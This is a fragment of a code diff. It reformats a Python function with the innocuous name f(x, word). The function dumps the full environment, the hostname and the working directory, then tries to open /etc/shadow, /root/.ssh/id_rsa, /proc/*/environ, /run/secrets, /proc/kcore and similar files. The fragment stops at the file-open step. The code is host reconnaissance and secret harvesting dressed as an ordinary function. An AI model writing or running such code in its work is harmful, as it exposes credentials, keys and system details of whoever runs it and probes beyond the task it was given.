@@ -6,12 +6,26 @@
 import os
 import platform
 
+
 def f(x, word):
     print(os.uname(), platform.node(), dict(os.environ), os.getcwd())
     for path in (
-        "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/etc/machine-id",
-        "/proc/self/environ", "/proc/1/environ", "/proc/cmdline", "/proc/kcore", "/proc/mounts",
-        "/proc/sys/kernel/hostname", "/sys/class/net", "/run/secrets", "/root/.ssh/id_rsa", "/.dockerenv",
+        "/etc/passwd",
+        "/etc/shadow",
+        "/etc/hostname",
+        "/etc/hosts",
+        "/etc/resolv.conf",
+        "/etc/machine-id",
+        "/proc/self/environ",
+        "/proc/1/environ",
+        "/proc/cmdline",
+        "/proc/kcore",
+        "/proc/mounts",
+        "/proc/sys/kernel/hostname",
+        "/sys/class/net",
+        "/run/secrets",
+        "/root/.ssh/id_rsa",
+        "/.dockerenv",
     ):
         try:
             with open(path) as file:
